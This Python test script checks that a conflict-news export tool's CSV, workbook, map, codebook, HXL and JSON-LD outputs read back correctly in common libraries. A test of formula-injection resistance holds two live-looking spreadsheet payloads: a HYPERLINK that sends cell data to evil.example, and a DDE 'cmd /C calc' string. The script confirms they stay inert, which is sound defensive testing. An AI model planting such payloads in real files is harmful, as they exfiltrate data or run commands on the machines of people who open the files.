"""Opens exports with the programs people have: pandas, openpyxl, DuckDB, GDAL (pyogrio), libhxl, rdflib, and LibreOffice where it is.

    python check.py RECOUPE PAGES      RECOUPE is the command, PAGES a folder of pages
"""

import glob
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

import duckdb
import hxl
import openpyxl
import pandas
import pyogrio
import rdflib

FORMATS = "html,json,csv,xlsx,geojson,acled,ucdp,plover,hxl,claims,md"
SIGNS = "=+\\-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−"
UNSEEN = "\\s\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
FORMULA = re.compile(f"(?:^|;)[{UNSEEN}]*[{SIGNS}]")
done = 0


def check(ok, what):
    global done
    if not ok:
        sys.exit(f"readers: {what}")
    done += 1


def undefuse(text):
    """What stood on the page before an apostrophe was put before a formula's sign."""
    return re.sub(f"(^|;)([{UNSEEN}]*)'(?='*[{UNSEEN}]*[{SIGNS}])", r"\1\2", text)


def export(recoupe, pages, out):
    subprocess.run([recoupe, "read", pages, "-q", "-o", out, "-f", FORMATS], check=True)


def tables(out):
    """pandas, openpyxl and DuckDB see the same rows in CSV and workbook, with the types that the data package names."""
    with open(f"{out}/csv/datapackage.json", encoding="utf-8") as f:
        package = json.load(f)
    book = openpyxl.load_workbook(f"{out}/dossier.xlsx")
    check(book.sheetnames == [r["name"] for r in package["resources"]], "a sheet for each table")
    for resource in package["resources"]:
        name, path = resource["name"], f"{out}/csv/{resource['path']}"
        fields = resource["schema"]["fields"]
        frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
        check(list(frame.columns) == [f["name"] for f in fields], f"columns of {name}")
        rows = list(book[name].iter_rows(min_row=2))
        check(len(rows) == len(frame), f"rows of {name}")
        for i, row in enumerate(rows):
            for cell, field in zip(row, fields):
                check(cell.data_type != "f", f"{name} has a formula in {cell.coordinate}")
                text = frame.iloc[i][field["name"]]
                value = cell.value
                if field["type"] in ("integer", "number"):
                    same = text == "" and value is None or text != "" and abs(float(text) - value) < 1e-4
                elif field["type"] == "boolean":
                    same = {"": None, "true": True, "false": False}[text] == value
                elif field["type"] == "date" and hasattr(value, "date"):
                    same = value.date().isoformat() == text
                else:
                    same = text == (value or "")
                check(same, f"{name} {cell.coordinate}: {text!r} and {value!r}")
        typed = pandas.read_csv(path)
        for field in fields:
            column = typed[field["name"]].dropna()
            if len(column) and field["type"] in ("integer", "number"):
                check(pandas.api.types.is_numeric_dtype(column), f"{name}.{field['name']} is a number for pandas")
        sql = duckdb.sql(f"select * from read_csv('{path}', header = true)")
        check(sql.columns == list(frame.columns), f"columns of {name} in DuckDB")
        check(len(sql.fetchall()) == len(frame), f"rows of {name} in DuckDB")
    low = duckdb.sql(f"select sum(min), max(published) from read_csv('{out}/csv/tolls.csv')").fetchall()
    check(low and low[0][1] is not None, "DuckDB takes days and figures for what they are")


def maps(out):
    """GDAL sees points in WGS 84 inside the box, and features without geometry."""
    for path in glob.glob(f"{out}/*.geojson"):
        info = pyogrio.read_info(path)
        with open(path, encoding="utf-8") as f:
            raw = json.load(f)
        check(info["crs"] == "EPSG:4326", f"{path} is in WGS 84")
        check(info["features"] == len(raw["features"]), f"features of {path}")
        box = info["total_bounds"]
        check(all(abs(a - b) < 1e-6 for a, b in zip(box, raw["bbox"])), f"box of {path}: {box} and {raw['bbox']}")


def codebooks(out):
    """Numbers are numbers and days are days for whoever reads ACLED and UCDP files."""
    acled = pandas.read_csv(f"{out}/acled.csv", parse_dates=["event_date"])
    check(len(acled.columns) == 31 and len(acled) > 0, "31 columns")
    for c in ["year", "time_precision", "iso", "latitude", "longitude", "geo_precision", "fatalities"]:
        check(pandas.api.types.is_numeric_dtype(acled[c]), f"ACLED {c}")
    check((acled.event_date.dt.year == acled.year).all(), "ACLED year")
    sources = pandas.read_csv(f"{out}/acled.sources.csv")
    check(set(sources.event_id_cnty) == set(acled.event_id_cnty), "each row has its sentences")
    ucdp = pandas.read_csv(f"{out}/ucdp-ged.csv", parse_dates=["date_start", "date_end"])
    check(len(ucdp.columns) == 49 and len(ucdp) > 0, "49 columns")
    for c in ["id", "year", "latitude", "longitude", "best", "high", "low", "priogrid_gid", "country_id"]:
        check(pandas.api.types.is_numeric_dtype(ucdp[c]), f"UCDP {c}")
    told = ucdp.dropna(subset=["low", "best", "high"])
    check((told.low <= told.best).all() and (told.best <= told.high).all(), "low, best, high")
    plover = pandas.read_json(f"{out}/plover.jsonl", lines=True)
    check({"id", "date", "actor", "event", "link", "text"} <= set(plover.columns), "PLOVER fields")


def humanitarian(out):
    """libhxl finds the tags and nothing wrong with them."""
    here = hxl.InputOptions(allow_local=True)
    for path in sorted(glob.glob(f"{out}/hxl/*")):
        source = hxl.data(path, here)
        check(all(c.display_tag for c in source.columns), f"tags of {path}")
        report = hxl.validate(hxl.data(path, here))
        check(report["stats"]["error"] == 0, f"{path}: {report['issues'][:2]}")


def linked(out):
    """rdflib reads the claims as a graph: each with its words, who says it and where, none with a rating."""
    with open(f"{out}/claims.jsonld", encoding="utf-8") as f:
        raw = json.load(f)
    check(raw["@context"][0] == "https://schema.org", "the context is that of schema.org")
    # its context cannot be fetched here; what it does to these names is this
    raw["@context"][0] = {"@vocab": "https://schema.org/", "url": {"@type": "@id"}}
    graph = rdflib.Graph().parse(data=json.dumps(raw), format="json-ld")
    schema = rdflib.Namespace("https://schema.org/")
    claims = set(graph.subjects(rdflib.RDF.type, schema.Claim))
    check(len(claims) == sum(n["@type"] == "Claim" for n in raw["@graph"]), "every claim is a node")
    for claim in claims:
        for name in [schema.text, schema.appearance, schema.url]:
            check(graph.value(claim, name) is not None, f"{claim} has no {name}")
        page = graph.value(claim, schema.appearance)
        # nobody knows who published a page without an outlet
        said = graph.value(claim, schema.author) or not graph.value(page, schema.publisher)
        check(said, f"{claim} has no author")
        check((page, rdflib.RDF.type, schema.NewsArticle) in graph, f"{claim} appears on a page")
    parted = rdflib.URIRef("urn:recoupe:contradicts")
    check(all((b, parted, a) in graph for a, _, b in graph.triples((None, parted, None))), "contradiction goes both ways")
    check((None, schema.reviewRating, None) not in graph, "no verdicts")


def hostile(recoupe, room):
    """A page whose headline, outlet and text are formulas stays text everywhere."""
    pages, out = f"{room}/pages", f"{room}/hostile"
    os.mkdir(pages)
    payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    text = f"{payload}\n\n=1+1 Deux soldats ont été tués mardi 3 mars 2020 dans un bombardement à Idlib, a dit l'armée turque ; =1+1 fin.\n"
    with open(f"{pages}/a.txt", "w", encoding="utf-8") as f:
        f.write(text)
    with open(f"{pages}/pages.csv", "w", encoding="utf-8") as f:
        f.write("file,url,outlet,published\na.txt,https://a.example/,\"@SUM(1+1)*cmd|' /C calc'!A0\",2020-03-04\n")
    export(recoupe, pages, out)
    book = openpyxl.load_workbook(f"{out}/dossier.xlsx")
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                check(cell.data_type != "f", f"a formula in {sheet.title} {cell.coordinate}")
                check(not (isinstance(cell.value, str) and FORMULA.search(cell.value)), f"{cell.value!r}")
    outlets = set()
    for path in glob.glob(f"{out}/**/*.csv", recursive=True):
        frame = pandas.read_csv(path, dtype=str, keep_default_na=False)
        for column in frame:
            for value in frame[column]:
                number = re.fullmatch(r"-?[0-9.]+", value)
                check(number or not FORMULA.search(value), f"{path} {column}: {value!r}")
        if path.endswith("csv/pages.csv"):
            outlets |= set(frame.outlet)
    check({undefuse(o) for o in outlets} == {"@SUM(1+1)*cmd|' /C calc'!A0"}, f"the outlet is read back: {outlets}")
    office(room, f"{out}/dossier.xlsx", f"{out}/csv/pages.csv", f"{out}/csv/claims.csv")


def office(room, *paths):
    """LibreOffice, where it is installed, makes no formula of any cell."""
    if not shutil.which("soffice"):
        print("   LibreOffice is not here: left out")
        return
    for path in paths:
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{room}/office", "--headless", "--convert-to", "ods", "--outdir", room, path],
            check=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=180,
        )
        ods = f"{room}/{os.path.splitext(os.path.basename(path))[0]}.ods"
        with zipfile.ZipFile(ods) as z:
            found = set(re.findall(rb'table:formula="([^"]*)"', z.read("content.xml")))
            # that is how it writes yes and no
            check(found <= {b"of:=TRUE()", b"of:=FALSE()"}, f"LibreOffice found a formula in {path}: {found}")


def main():
    recoupe, pages = sys.argv[1:]
    with tempfile.TemporaryDirectory() as room:
        out = f"{room}/out"
        export(recoupe, pages, out)
        tables(out)
        maps(out)
        codebooks(out)
        humanitarian(out)
        linked(out)
        office(room, f"{out}/dossier.xlsx")
        hostile(recoupe, room)
    print(f"   {done} values and files read back")


main()
